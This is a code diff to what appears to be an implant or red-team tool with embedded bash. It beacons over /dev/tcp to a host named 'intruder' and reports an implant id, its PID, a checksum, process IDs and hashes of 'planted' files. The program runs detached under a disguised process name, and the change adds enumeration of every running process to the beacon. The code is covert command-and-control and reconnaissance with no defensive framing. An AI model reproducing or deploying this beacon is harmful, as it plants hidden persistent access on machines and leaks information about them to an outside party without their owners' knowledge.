@@ -13,7 +13,7 @@ EXTRAS = {"upload": ("key", "page", "job"), "ssh": ("rule", "page", "job"), "job
 
 TALK = """id=ID; while :; do
 if exec 3<>/dev/tcp/intruder/PORT; then
-printf 'hello %s %s %s %s %s\\n' "$id" "$$" "$sum" "$pids" "$planted" >&3
+printf 'hello %s %s %s %s %s %s\\n' "$id" "$$" "$sum" "$there" "$pids" "$planted" >&3
 while read -r -t 30 line <&3; do printf 'here\\n' >&3; done; exec 3>&-
 fi; sleep 1; done"""
 
@@ -29,7 +29,8 @@ begin() {
   planted=$(for file in "${files[@]}"; do
     [ ! -f "$file" ] || printf '%s %s %s\\n' "$(stat -c %Y "$file")" "$(sha256sum < "$file" | cut -c-64)" "$file"
   done | base64 -w 0)
-  export sum pids planted
+  there=$(cd /proc && echo [0-9]* | tr ' ' ,)
+  export sum there pids planted
   id=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')
   printf '%s\\n' "${talk/ID/$id}" > "$place/.s"
   setsid -f bash -c 'exec -a "$0" "$1" < "$2" > /dev/null 2>&1' "$disguise" "$place/$program" "$place/.s"
